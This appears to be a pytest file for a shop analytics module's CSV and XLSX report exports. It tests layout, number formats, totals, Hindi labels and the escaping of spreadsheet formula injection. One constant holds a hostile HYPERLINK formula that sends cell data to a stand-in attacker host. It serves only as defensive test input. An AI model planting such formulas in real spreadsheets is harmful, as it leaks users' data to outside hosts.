"""CSV and XLSX of a report: the same figures, typed, and nothing a spreadsheet would run."""

from __future__ import annotations

import csv
import io
from datetime import datetime
from typing import Any

import openpyxl
import pytest

from analytics.exports import disarmed, report_csv, report_xlsx
from analytics.report import Report
from analytics.reports import Figures, metrics_report, monthly_report, weekly_report
from analytics.spoken import spoken
from munim.errors import NotFound
from tests.analytics.conftest import MONDAY, figures_of
from tests.analytics.mirrors import Books

HOSTILE = '=HYPERLINK("http://evil.example/"&A1,"Click")'


def read_csv(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def workbook(report: Report, *, values: bool) -> Any:
    return openpyxl.load_workbook(io.BytesIO(report_xlsx(report)), data_only=values)


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"])
def test_text_that_a_spreadsheet_would_run_is_disarmed(text: str) -> None:
    assert disarmed(text) == "'" + text


def test_one_table_as_csv_is_clean_rows_with_iso_dates_and_plain_numbers(figures: Figures) -> None:
    rows = read_csv(report_csv(weekly_report(figures, MONDAY), "days"))

    assert rows[0] == [
        "Day",
        "Revenue (INR)",
        "A week before (INR)",
        "Change (%)",
        "Orders",
        "Items",
        "Average order value (INR)",
    ]
    assert rows[1] == ["2026-11-09", "100.00", "50.00", "100.0", "1", "3.000", "100.00"]
    assert rows[-1] == ["Total", "2750.00", "1400.00", "96.4", "7", "20.000", "400.00"]


def test_whole_report_as_csv_has_every_section(figures: Figures) -> None:
    rows = read_csv(report_csv(weekly_report(figures, MONDAY)))

    assert rows[0] == ["Sales of the week 9–15 Nov 2026"]
    assert ["Day by day"] in rows
    assert ["Best products"] in rows


def test_a_report_without_tables_is_its_headlines(figures: Figures) -> None:
    heads, row = read_csv(report_csv(metrics_report(figures, 14), "summary"))

    assert heads[:3] == [
        "Revenue (INR)",
        "Revenue, the 14 days before (INR)",
        "Revenue, the 14 days before: change (%)",
    ]
    assert row[:3] == ["3523.45", "750.00", "369.8"]


def test_a_table_the_report_has_not_is_refused(figures: Figures) -> None:
    with pytest.raises(NotFound, match="summary, days, top_products"):
        report_csv(weekly_report(figures, MONDAY), "weeks")


def test_hostile_names_stay_words_and_negative_amounts_stay_numbers() -> None:
    books = Books()
    books.line("B1", MONDAY, HOSTILE, 1, 100)
    books.line("C1", MONDAY, "Rice", -1, -30_000_000, entry="return")
    with figures_of(books) as figures:
        report = weekly_report(figures, MONDAY)

    in_csv = {row[0]: row[1] for row in read_csv(report_csv(report, "top_products"))}
    assert in_csv["'" + HOSTILE] == "1.00"
    assert in_csv["Rice"] == "-300000.00"
    cell = workbook(report, values=False)["Best products"]["A2"]
    assert (cell.value, cell.data_type) == (HOSTILE, "s")


def test_workbook_has_typed_cells_a_frozen_header_and_a_sheet_for_each_table(figures: Figures) -> None:
    book = workbook(weekly_report(figures, MONDAY), values=True)

    assert book.sheetnames == ["Summary", "Day by day", "Best products"]
    sheet = book["Day by day"]
    assert sheet.freeze_panes == "B2"
    assert sheet["A2"].value == datetime(2026, 11, 9)
    assert (sheet["B2"].value, sheet["E2"].value) == (100, 1)
    assert sheet["B2"].number_format.startswith(r"[>=10000000]##\,##\,##\,##0.00;[>=100000]##\,##\,##0.00")
    assert "Revenue in the week 9–15 Nov 2026 was ₹2,750.00" in book["Summary"]["A4"].value


def test_a_workbook_says_from_when_its_figures_are_by_the_shops_clock(figures: Figures) -> None:
    book = openpyxl.load_workbook(io.BytesIO(report_xlsx(weekly_report(figures, MONDAY))))

    assert str(book["Summary"]["A2"].value).endswith("Figures as of Fri 20 Nov 2026, 15:00")  # 09:30 UTC


@pytest.mark.parametrize(
    "make", [lambda figures: weekly_report(figures, MONDAY), lambda figures: monthly_report(figures, 2026, 11)]
)
def test_totals_are_live_sums_that_already_carry_their_value(figures: Figures, make: Any) -> None:
    report = make(figures)
    formulas, cached = workbook(report, values=False), workbook(report, values=True)

    sums = 0
    for name in formulas.sheetnames[1:]:
        last = formulas[name].max_row
        for cell in formulas[name][last]:
            if cell.data_type == "f":
                sums += 1
                assert cell.value == f"=SUM({cell.column_letter}2:{cell.column_letter}{last - 1})"
                column = [cached[name].cell(row, cell.column).value or 0 for row in range(2, last)]
                assert round(sum(column), 2) == cached[name].cell(last, cell.column).value
    assert sums >= 3


def test_total_of_an_average_is_a_value_and_no_sum(figures: Figures) -> None:
    sheet = workbook(weekly_report(figures, MONDAY), values=False)["Day by day"]

    assert [cell.value for cell in sheet[1]][6] == "Average order value (INR)"
    assert sheet.cell(sheet.max_row, 7).value == 400


def test_pounds_group_by_thousands() -> None:
    books = Books(currency="GBP")
    books.line("B1", MONDAY, "Tea", 1, 123_456_789)
    with figures_of(books) as figures:
        report = weekly_report(figures, MONDAY)

    assert workbook(report, values=False)["Day by day"]["B2"].number_format == "#,##0.00"
    assert "£1,234,567.89" in report.sentences[0]


def test_a_workbook_in_hindi_says_total_and_its_heads_in_hindi(figures: Figures) -> None:
    report = spoken(weekly_report(figures, MONDAY), "hi")
    book = openpyxl.load_workbook(io.BytesIO(report_xlsx(report)))

    texts = [cell.value for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert "कुल" in texts
    assert {"आँकड़ा", "मान", "बदलाव"} <= set(texts)
    assert not {"Total", "Figure", "Value", "Change"} & set(texts)
    assert "कुल" in report_csv(report).decode()
